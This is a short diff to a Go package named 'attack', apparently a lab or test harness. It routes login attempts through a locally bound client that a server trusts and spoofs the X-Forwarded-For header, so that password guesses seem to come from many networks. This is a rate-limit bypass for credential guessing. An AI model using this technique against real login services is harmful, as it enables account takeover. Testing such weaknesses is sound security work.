@@ -3,6 +3,7 @@ package attack
 import (
 	"context"
 	"fmt"
+	"net"
 	"net/http"
 	"slices"
 	"strings"
@@ -48,6 +49,11 @@ func guessFromManyNetworks(ctx context.Context, url, account string, atOnce int)
 	return answers, all.Wait
 }
 
+// proxyAddress is the address of this machine from which signInFrom connects.
+const proxyAddress = "127.0.0.9"
+
+var viaProxy = &http.Client{Transport: &http.Transport{DialContext: (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(proxyAddress)}}).DialContext}}
+
 // signInFrom signs in from an address, through a proxy that the server trusts.
 func signInFrom(ctx context.Context, url, from, account, password string) (status int, err error) {
 	r, err := http.NewRequestWithContext(ctx, http.MethodPost, url+"/api/v1/auth/login", strings.NewReader(credentials(account, password)))
@@ -56,7 +62,7 @@ func signInFrom(ctx context.Context, url, from, account, password string) (statu
 	}
 	r.Header.Set("Content-Type", "application/json")
 	r.Header.Set("X-Forwarded-For", from)
-	answer, err := http.DefaultClient.Do(r)
+	answer, err := viaProxy.Do(r)
 	if err != nil {
 		return 0, err
 	}
